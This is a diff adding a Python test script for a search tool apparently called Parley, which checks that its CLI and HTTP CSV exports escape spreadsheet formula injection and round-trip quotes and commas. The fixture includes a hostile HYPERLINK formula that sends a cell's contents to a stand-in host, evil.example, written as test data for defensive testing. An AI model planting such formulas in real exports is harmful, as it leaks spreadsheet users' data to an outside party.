@@ -1,0 +1,108 @@
+"""What Parley writes for other programs, read the way they read it.
+
+    csv_test.py BUILD_DIR
+
+A small archive of hostile text (cells a spreadsheet would run as formulas, quotes, commas,
+line breaks) exported by parley-analyze and by GET /analyze/export and the views'
+format=csv: each CSV read back with Python's csv module, cell by cell.
+"""
+import atexit, csv, io, json, os, re, shutil, subprocess, sys, tempfile, urllib.request
+
+build = sys.argv[1]
+index_bin = os.path.join(build, "indexer", "parley-index")
+analyze_bin = os.path.join(build, "searcher", "parley-analyze")
+serve_bin = os.path.join(build, "server", "parley-serve")
+failures = []
+
+
+def check(ok, what):
+    print(("ok   " if ok else "FAIL ") + what)
+    if not ok:
+        failures.append(what)
+
+
+def run(cmd, expect=0):
+    p = subprocess.run(cmd, capture_output=True, text=True, timeout=120)
+    if expect is not None and p.returncode != expect:
+        raise SystemExit("%s exited %d, not %d:\n%s" % (" ".join(cmd), p.returncode, expect,
+                                                        p.stderr[-2000:]))
+    return p
+
+
+def rows(text):
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+work = tempfile.mkdtemp(prefix="parley-csv-test-")
+atexit.register(shutil.rmtree, work, ignore_errors=True)
+archive = os.path.join(work, "hostile.jsonl")
+articles = [
+    {"id": "f1", "title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+     "authors": ["@Ann Lee"], "date": "2023-05-01", "source": "+Daily",
+     "paragraphs": ["=1+1 is what the minister said about China.",
+                    "-2+3 counts the ships near China."]},
+    {"id": "f2", "title": "Plain, with \"quotes\"", "authors": ["Bo Chen"], "date": "2023-05-02",
+     "source": "Weekly", "paragraphs": ["China, a comma and a \"quote\" in the text."]},
+]
+with open(archive, "w") as f:
+    for a in articles:
+        f.write(json.dumps(a) + "\n")
+index = os.path.join(work, "index")
+run([index_bin, "--index", index, "--quiet", archive])
+
+
+def export(fmt, *options):
+    return run([analyze_bin, "export", "--index", index, "--format", fmt, "--sort", "date-asc",
+                *options, "China"]).stdout
+
+
+# --- formulas: a text cell a spreadsheet would run gets a leading ' -----------------------
+exported = rows(export("csv"))
+by_paragraph = {(r["article_id"], r["paragraph"]): r for r in exported}
+first, second = by_paragraph[("f1", "1")], by_paragraph[("f1", "2")]
+check(first["title"] == "'" + articles[0]["title"] and first["authors"] == "'@Ann Lee" and
+      first["source"] == "'+Daily" and first["text"] == "'=1+1 is what the minister said "
+      "about China." and second["text"].startswith("'-2+3"),
+      "export --format csv: title, author, source and text starting with = @ + - get a "
+      "leading ' (%r)" % first["title"])
+check(by_paragraph[("f2", "1")]["title"] == "Plain, with \"quotes\"",
+      "export --format csv: other text as it is, quotes and commas read back")
+kept = {(r["article_id"], r["paragraph"]): r for r in rows(export("csv", "--no-escape-formulas"))}
+check(kept[("f1", "1")]["title"] == articles[0]["title"] and
+      kept[("f1", "1")]["text"].startswith("=1+1") and kept[("f1", "2")]["text"].startswith("-2+3"),
+      "--no-escape-formulas: the text as it is")
+ndjson = [json.loads(l) for l in export("ndjson").splitlines()]
+check(all(h["title"] == articles[0]["title"] for h in ndjson if h["article_id"] == "f1"),
+      "NDJSON is never changed")
+context = rows(run([analyze_bin, "context", "--index", index, "--format", "csv", "f1", "1"]).stdout)
+check(context[0]["text"].startswith("'=1+1"), "context --format csv: escaped as export is")
+authors = rows(run([analyze_bin, "stands-out", "--index", index, "--format", "csv", "--field",
+                    "author", "--min-count", "1", "--background", "text", "China"]).stdout)
+check(any(r["author"] == "'@Ann Lee" for r in authors),
+      "stands-out --format csv: a value starting with @ escaped (%s)" % authors)
+
+# --- the same over HTTP ---------------------------------------------------------------
+server = subprocess.Popen([serve_bin, "--index", index, "--listen", "127.0.0.1:0"],
+                          stdout=subprocess.PIPE, text=True)
+try:
+    port = re.search(r"127\.0\.0\.1:(\d+)/", server.stdout.readline()).group(1)
+
+    def get(target):
+        with urllib.request.urlopen("http://127.0.0.1:%s%s" % (port, target), timeout=60) as r:
+            return r.headers, r.read().decode()
+
+    _, body = get("/analyze/export?q=China&sort=date-asc&format=csv")
+    check(body == export("csv"), "GET /analyze/export?format=csv: the CLI's CSV, escaped")
+    _, body = get("/analyze/export?q=China&sort=date-asc&format=csv&escape_formulas=false")
+    check(body == export("csv", "--no-escape-formulas"),
+          "GET /analyze/export?escape_formulas=false: the CLI's --no-escape-formulas")
+    _, body = get("/analyze/context?article=f1&paragraph=1&format=csv")
+    check(rows(body)[0]["text"].startswith("'=1+1"), "GET /analyze/context?format=csv: escaped")
+finally:
+    server.terminate()
+    server.wait(timeout=30)
+
+if failures:
+    print("%d check(s) failed" % len(failures))
+    sys.exit(1)
+print("all checks passed")
